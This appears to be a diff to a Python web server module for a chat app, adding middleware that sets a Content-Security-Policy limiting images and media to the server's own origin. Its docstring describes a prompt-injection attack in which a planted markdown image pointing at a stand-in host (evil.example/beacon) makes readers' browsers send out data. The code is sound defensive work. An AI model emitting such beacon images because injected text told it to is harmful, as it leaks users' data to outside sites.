@@ -1,9 +1,11 @@
-"""The edge of the server, where strangers' connections arrive: what it answers and how long it
-waits. Both are installed by ``app.server``.
+"""The edge of the server, where strangers' connections arrive: what it answers, how long it
+waits, and what the page it serves may load. All are installed by ``app.server``.
 
     LoopbackHostOnly   on a server bound to this machine only, a request must name a loopback
                        host (a web page re-pointing its own name at 127.0.0.1 cannot read replies)
     TimedH11Protocol   a connection must send its request's head, then its body, in time
+    OwnImagesOnly      the page shows images and media from this server only: a reply cannot
+                       make every reader's browser call another site
 """
 
 from __future__ import annotations
@@ -39,6 +41,42 @@ class LoopbackHostOnly:
                    "names, start it with --host 0.0.0.0 or --share.")
         await JSONResponse({"error": openai_error(message, 421), "detail": message}, status_code=421)(
             scope, receive, send)
+
+
+# What the page may load as images and media: this server (by whatever name the page was
+# reached: localhost, a Space's, the share link's) and inline data; no other site. The rest
+# (scripts, styles, fonts, connections) is left as it was: Gradio's page needs it as it is.
+PAGE_POLICY = "img-src 'self' data: blob:; media-src 'self' data: blob:"
+
+
+class OwnImagesOnly:
+    """ASGI middleware: every HTTP response carries ``Content-Security-Policy: PAGE_POLICY``.
+
+    The chat renders each reply as markdown, and markdown and the HTML it allows can embed
+    images: ``![x](https://evil.example/beacon?d=…)`` or ``<img src=…>``, planted in a reply by a
+    prompt injection (a pasted document, a crafted earlier message), would make every reader's
+    browser fetch that address at once, with whatever the reply put into it. The browser refuses
+    such loads under this policy, whatever the text looks like and wherever it is rendered.
+    Images the page's own components show come from this server (``/gradio_api/file=``, its
+    assets, ``data:`` and ``blob:`` URLs), so nothing of the page is lost. It goes on every
+    response, not only the page's HTML: a file this server sends that a browser opens as a
+    document (an SVG, say) is held to it too. A browser enforces each policy header it gets,
+    so one the app sets itself would still apply beside this one."""
+
+    def __init__(self, app) -> None:
+        self.app = app
+
+    async def __call__(self, scope, receive, send) -> None:
+        if scope["type"] != "http":
+            return await self.app(scope, receive, send)
+
+        async def send_with_policy(message) -> None:
+            if message["type"] == "http.response.start":
+                headers = [*message.get("headers", ()), (b"content-security-policy", PAGE_POLICY.encode())]
+                message = {**message, "headers": headers}
+            await send(message)
+
+        await self.app(scope, receive, send_with_policy)
 
 
 def host_name(host: str) -> str:
